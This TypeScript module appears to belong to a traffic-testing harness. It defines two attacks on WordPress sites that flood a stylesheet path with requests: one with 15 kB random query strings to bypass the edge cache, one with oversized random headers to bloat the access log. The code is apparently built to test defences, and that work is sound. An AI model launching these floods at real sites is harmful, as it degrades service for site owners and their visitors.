import { randomBytes } from 'node:crypto'
import type { Attack } from './attack.ts'
import { atRate, hostileRequest, siteOf } from './hostile.ts'

/** 15 kB that no cache has seen. */
const noise = (): string =>
  randomBytes(5600).toString('base64url') + randomBytes(5600).toString('base64url').slice(0, 7600)

/** Each one has its own key in the edge cache. */
export const longQueries: Attack = {
  name: '15 kB of query',
  connections: 20,
  async run(target, signal) {
    const path = '/wp-includes/css/buttons.css'
    await atRate(150, 20, signal, (n) =>
      hostileRequest(target, { host: siteOf(target, n), path: `${path}?${noise()}`, n }, signal),
    )
  },
}

/** Each one is a long line in the access log. */
export const longHeads: Attack = {
  name: 'long heads',
  connections: 20,
  async run(target, signal) {
    await atRate(150, 20, signal, (n) => {
      const headers = { 'user-agent': noise().slice(0, 8000), referer: `http://x.test/${noise().slice(0, 7000)}` }
      return hostileRequest(
        target,
        { host: siteOf(target, n), path: '/wp-includes/css/buttons.css', n, headers },
        signal,
      )
    })
  },
}
